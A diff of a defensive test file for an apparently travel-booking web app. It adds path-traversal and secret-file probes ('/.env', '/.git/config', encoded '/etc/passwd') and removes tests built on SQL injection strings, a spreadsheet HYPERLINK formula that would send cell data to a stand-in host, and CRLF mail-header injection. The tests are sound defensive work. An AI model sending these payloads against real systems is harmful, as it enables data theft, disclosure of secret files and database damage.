@@ -1,10 +1,8 @@
 import { afterEach, beforeAll, expect, test, vi } from 'vitest';
-import { contactMessages, outbox, settings, subscribers, transferRequests, tripRequests } from '#db/schema.ts';
-import { deliverDue } from '#mail/delivery.ts';
 import { anAdmin } from './test/admin.ts';
-import { aBlogCategory, aTrip, aTripType, db } from './test/builders.ts';
+import { aBlogCategory, aTrip, aTripType } from './test/builders.ts';
 import { bindings, ORIGIN, postForm, postJson, send } from './test/client.ts';
-import { aTransferRequest, aTransferTable, SUMMER_DAY } from './test/transfer-table.ts';
+import { aTransferTable } from './test/transfer-table.ts';
 
 const admin = await anAdmin();
 beforeAll(async () => {
@@ -66,6 +64,20 @@ test.each([
   expect((await send(path)).status).toBe(404);
 });
 
+test('the static build is all that files come from', async () => {
+  for (const path of [
+    '/.env',
+    '/wrangler.toml',
+    '/package.json',
+    '/assets/..%2f..%2fwrangler.toml',
+    '/..%2f..%2fetc%2fpasswd',
+    '/.git/config',
+  ]) {
+    const response = await send(path, {}, bindings);
+    expect(response.status, path).toBe(404);
+  }
+});
+
 const FAR = 'http://169.254.169.254/latest/meta-data/';
 test('no address that somebody types is ever asked by the worker', async () => {
   const asked = vi.spyOn(globalThis, 'fetch').mockImplementation(async () => new Response(null, { status: 418 }));
@@ -117,134 +129,4 @@ test('no address that somebody types is ever asked by the worker', async () => {
   ])
     expect((await send(path)).status, path).toBeLessThan(500);
   expect(asked).not.toHaveBeenCalled();
-});
-
-const SQL = [
-  "' OR '1'='1",
-  '" OR 1=1 --',
-  "'; DROP TABLE trips; --",
-  "') UNION SELECT password_hash FROM users --",
-  'NEAR("a" "b")',
-  'a* OR b*',
-  '%',
-  '_%_',
-  '\\',
-  '"',
-];
-const LISTS = ['/api/search', '/api/trips', '/api/destinations', '/api/blog/posts', '/api/transfers/places'];
-const ADMIN_LISTS = [
-  '/trips',
-  '/destinations',
-  '/blog/posts',
-  '/users',
-  '/transfers',
-  '/trip-requests',
-  '/messages',
-  '/subscribers',
-  '/outbox',
-  '/audit',
-  '/redirects',
-  '/images',
-];
-
-test('a search for pieces of SQL finds the words, or nothing', async () => {
-  const before = await db.select().from(tripRequests);
-  for (const [n, text] of SQL.entries()) {
-    for (const path of LISTS) {
-      const address = { 'CF-Connecting-IP': `203.0.113.${n}` };
-      const response = await send(
-        `${path}?q=${encodeURIComponent(text)}&lang=en&sort=${encodeURIComponent(text)}&type=${encodeURIComponent(text)}`,
-        { headers: address },
-      );
-      expect(response.status, `${path} ${text}`).toBe(200);
-      expect(await response.text(), `${path} ${text}`).not.toMatch(/scrypt|SQLITE|syntax error/i);
-    }
-    for (const path of ADMIN_LISTS) {
-      const response = await admin(
-        `${path}?q=${encodeURIComponent(text)}&sort=${encodeURIComponent(text)}&status=${encodeURIComponent(text)}&page=${encodeURIComponent(text)}`,
-      );
-      expect(response.status, `${path} ${text}`).toBe(200);
-      expect(await response.text(), `${path} ${text}`).not.toMatch(/scrypt|SQLITE|syntax error/i);
-    }
-  }
-  expect((await send('/api/trips/1')).status).toBe(200);
-  expect(await db.select().from(tripRequests)).toEqual(before);
-});
-
-const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
-test('no export holds a formula, whoever typed it', async () => {
-  const agreed = { language: 'de', privacyEdition: '1', privacyAcceptedAt: '2026-01-01T00:00:00.000Z' } as const;
-  await db
-    .insert(contactMessages)
-    .values({ name: FORMULA, email: '+cmd@example.com', message: `-2+3${FORMULA}`, language: 'en', source: '@SUM(1)', digest: 'd' });
-  await db
-    .insert(subscribers)
-    .values({ email: '=cmd|x@example.com', language: 'en', consentSource: '\t=1+1', requestedAt: '2026-01-01T00:00:00.000Z' });
-  await db.insert(tripRequests).values({
-    id: 'r',
-    reference: 'REF00001',
-    manageTokenHash: 'h',
-    tripId: 1,
-    localDate: '2027-06-12',
-    adults: 2,
-    digest: 'd',
-    contactName: FORMULA,
-    message: ' =1+1',
-    ...agreed,
-  });
-  await aTransferRequest({ contact: { name: FORMULA, email: 'ada@example.com' }, signName: '+1', note: '@SUM(1+1)' });
-  const from = `${Number(SUMMER_DAY.slice(0, 4))}-06-01`;
-  for (const path of [
-    '/messages/export.csv',
-    '/subscribers/export.csv',
-    '/trip-requests/export.csv',
-    `/transfers/export.csv?from=${from}&to=${SUMMER_DAY}`,
-  ]) {
-    const response = await admin(path);
-    expect([response.status, response.headers.get('Content-Disposition')?.split(';')[0]], path).toEqual([200, 'attachment']);
-    const text = await response.text();
-    expect(text.split('\r\n').length, path).toBeGreaterThan(2);
-    // A cell begins at a quote that follows a comma or the line's beginning.
-    expect(text.match(/(?:^|,|\n)"\s*[=+\-@]/g) ?? [], path).toEqual([]);
-    expect(text, path).toContain(`"'`);
-  }
-});
-
-test('what a guest types adds no line to a mail’s head, on its way to the provider', async () => {
-  const name = 'Eve\r\nBcc: all@elsewhere.example\r\n\r\nBody';
-  await aTransferRequest({ contact: { name, email: 'eve@example.com' }, signName: name });
-  await postJson('/api/trips/1/requests', {
-    date: SUMMER_DAY,
-    adults: 2,
-    childAges: [],
-    contact: { name, email: 'eve@example.com' },
-    message: name,
-    language: 'en',
-    privacyAccepted: true,
-  });
-  const heads: Record<string, unknown>[] = [];
-  vi.spyOn(globalThis, 'fetch').mockImplementation(async (_url, init) => {
-    const { from, to, reply_to: replyTo, subject } = JSON.parse(String(init?.body)) as Record<string, unknown>;
-    // An answer that leads elsewhere is not followed.
-    expect(init?.redirect).toBe('manual');
-    heads.push({ from, to, replyTo, subject });
-    return Response.json({});
-  });
-  await db
-    .insert(settings)
-    .values({ key: 'mail', value: { driver: 'http', senderAddress: 'firm@example.com' } })
-    .onConflictDoNothing();
-  // The local default keeps mails; here they go out.
-  await db.update(outbox).set({ status: 'pending', attempts: 0, nextAttemptAt: '2026-01-01T00:00:00.000Z' });
-  await deliverDue({ ...bindings, MAIL_ENDPOINT: 'https://provider.example/emails' }, db);
-  expect(heads.length).toBeGreaterThan(2);
-  for (const head of heads) expect(JSON.stringify(head)).not.toMatch(/\\r|\\n|\\u2028/);
-  for (const email of ['eve@example.com\r\nBcc: x@elsewhere.example', 'a@b.example,c@d.example', '"a b"@example.com']) {
-    const response = await postJson('/api/subscribe', { email });
-    expect([response.status, (await db.select().from(subscribers)).some((one) => /elsewhere|,/.test(one.email))], email).toEqual([
-      422,
-      false,
-    ]);
-  }
-  expect(await db.select().from(transferRequests)).not.toEqual([]);
 });
